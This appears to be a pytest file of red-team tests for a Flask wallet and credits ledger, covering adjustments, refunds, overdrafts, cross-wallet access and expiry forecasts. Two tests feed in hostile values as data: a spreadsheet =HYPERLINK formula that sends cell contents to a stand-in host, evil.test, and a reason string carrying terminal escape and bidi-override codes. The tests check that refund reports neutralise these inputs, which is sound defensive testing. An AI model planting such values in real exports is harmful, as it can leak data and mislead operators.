"""Red-team (attack-spend): adjustments and refunds over HTTP, on both databases."""

from __future__ import annotations

from datetime import timedelta

import pytest
from flask.testing import FlaskClient
from sqlalchemy import create_engine, text

from app.bootstrap import Container
from app.services import refund_report
from app.services.ledger import LedgerService
from tests.conftest import FakeClock
from tests.http_fixtures import *  # noqa: F403
from tests.http_fixtures import Tokens, bearer, table_counts


@pytest.fixture
def admin(tokens: Tokens) -> dict[str, str]:
    return bearer(tokens.m2m("credits:admin"))


def adjust(client: FlaskClient, headers: dict[str, str], body: dict[str, object],
           wallet: str = "kp_alice") -> tuple[int, dict[str, object]]:
    response = client.post(f"/v1/wallets/{wallet}/adjustments", json=body, headers=headers)
    return response.status_code, response.get_json()


def _sql(db_url: str, statement: str, **params: object) -> None:
    engine = create_engine(db_url)
    try:
        with engine.begin() as conn:
            conn.execute(text(statement), params)
    finally:
        engine.dispose()


@pytest.mark.xfail(strict=True, reason=(
    "a negative adjustment debits like refusable usage, which may use the wallet's overdraft "
    "limit: an operator's correction takes the balance below zero (arrears) instead of 402"))
def test_negative_adjustment_never_takes_the_balance_below_zero_even_with_an_overdraft(
        client: FlaskClient, admin: dict[str, str], db_url: str) -> None:
    assert adjust(client, admin, {"credits": 100, "reason": "start"})[0] == 201
    _sql(db_url, "UPDATE wallets SET overdraft_limit = 50 WHERE id = 'kp_alice'")
    before = table_counts(db_url)
    status, body = adjust(client, admin, {"credits": -140, "reason": "double-counted import"})
    assert status == 402, body
    assert table_counts(db_url) == before


def _refund_with_reason(client: FlaskClient, admin: dict[str, str], reason: str) -> None:
    sale = client.post("/v1/wallets/kp_alice/top-ups", json={"bundle": "starter"},
                       headers=admin).get_json()["entry"]["id"]
    done = client.post(f"/v1/wallets/kp_alice/purchases/{sale}/refund",
                       json={"reason": reason}, headers=admin)
    assert done.status_code == 201, done.json


def test_refund_report_csv_does_not_hand_a_spreadsheet_a_formula(
        client: FlaskClient, admin: dict[str, str], api_container: Container) -> None:
    _refund_with_reason(client, admin, '=HYPERLINK("http://evil.test/?x="&A1,"open")')
    csv_text = refund_report.as_csv(api_container.operations.refunds_report(None, None))
    last = csv_text.strip().splitlines()[-1]
    assert ",=HYPERLINK" not in last and ',"=HYPERLINK' not in last, last


def test_refund_report_text_does_not_print_terminal_escapes(
        client: FlaskClient, admin: dict[str, str], api_container: Container) -> None:
    _refund_with_reason(client, admin, "ok\x1b[2J\x1b]8;;http://evil.test\x07click\u202e")
    shown = refund_report.as_text(api_container.operations.refunds_report(None, None))
    assert "\x1b" not in shown and "\u202e" not in shown, repr(shown)


def test_refund_of_another_wallets_entry_is_404(client: FlaskClient, admin: dict[str, str],
                                               tokens: Tokens) -> None:
    sale = client.post("/v1/wallets/kp_bob/top-ups", json={"bundle": "starter"},
                       headers=admin).get_json()["entry"]["id"]
    client.post("/v1/wallets/kp_alice/top-ups", json={"bundle": "starter"}, headers=admin)
    wrong = client.post(f"/v1/wallets/kp_alice/purchases/{sale}/refund",
                        json={"reason": "x"}, headers=admin)
    assert wrong.status_code == 404
    confined = bearer(tokens.m2m("credits:admin", org="org_acme"))
    wrong = client.post(f"/v1/wallets/kp_bob/purchases/{sale}/refund",
                        json={"reason": "x"}, headers=confined)
    assert wrong.status_code == 404
    assert client.get("/v1/wallets/kp_bob", headers=admin).get_json()["balance"] == 5000


@pytest.mark.xfail(strict=True, reason=(
    "the forecast leaves the LATEST-expiring credits to open holds, but the ledger reserves the "
    "SOONEST-expiring ones for them (Wallet.expire_blocks, capture order): credits kept for a "
    "hold are counted as expiring unused and the runway is cut short by them"))
def test_credits_kept_for_an_open_hold_are_not_lost_in_the_forecast(
        sql_ledger: LedgerService, clock: FakeClock) -> None:
    ledger = sql_ledger
    ledger.grant("kp_alice", 2000, "base")
    for day in range(3):  # 3 active days of the last 7: the 7-day window
        ledger.record_usage("kp_alice", "report_generation", 1)  # 50 credits
        if day < 2:
            clock.advance(days=1)
    ledger.adjust("kp_alice", 100, "promo", expires_at=clock() + timedelta(minutes=5))
    ledger.place_hold("kp_alice", credits=100, expires_in_seconds=900)
    clock.advance(minutes=6)  # the promo expired; kept back for the open hold
    wallet = ledger.get_wallet("kp_alice")
    assert (wallet["balance"], wallet["held"], wallet["available"]) == (1950, 100, 1850)
    f = ledger.forecasts.compute("kp_alice")
    # 1,850 credits anyone can use (none expire), at 150 / 7 credits a day.
    assert f.expiring_before_run_out == 0, f
    assert f.days_left == int(1850 / (150 / 7)), f


@pytest.mark.parametrize("entry_id", ["9223372036854775808", "99999999999999999999999"])
def test_refund_of_an_entry_id_past_64_bits_is_404_not_500(
        client: FlaskClient, admin: dict[str, str], entry_id: str) -> None:
    client.post("/v1/wallets/kp_alice/top-ups", json={"bundle": "starter"}, headers=admin)
    response = client.post(f"/v1/wallets/kp_alice/purchases/{entry_id}/refund",
                           json={"reason": "x"}, headers=admin)
    assert response.status_code == 404, response.get_json()


def test_an_expired_pack_kept_for_an_open_hold_is_not_refunded(
        sql_ledger: LedgerService, clock: FakeClock) -> None:
    from app.domain.refunds import NotRefundable

    ledger = sql_ledger
    ledger.grant("kp_alice", 1000, "other credits")
    entry = int(ledger.top_up_bundle("kp_alice", "starter").body["entry"]["id"])
    clock.advance(days=365, minutes=-10)
    ledger.place_hold("kp_alice", credits=200, expires_in_seconds=900)
    clock.advance(minutes=11)  # the pack expired; 200 of it kept for the hold
    wallet = ledger.get_wallet("kp_alice")
    assert (wallet["balance"], wallet["held"]) == (1200, 200), wallet
    with pytest.raises(NotRefundable):
        ledger.refund("kp_alice", entry, "late")  # answers: 200 credits, 1.96 USD back
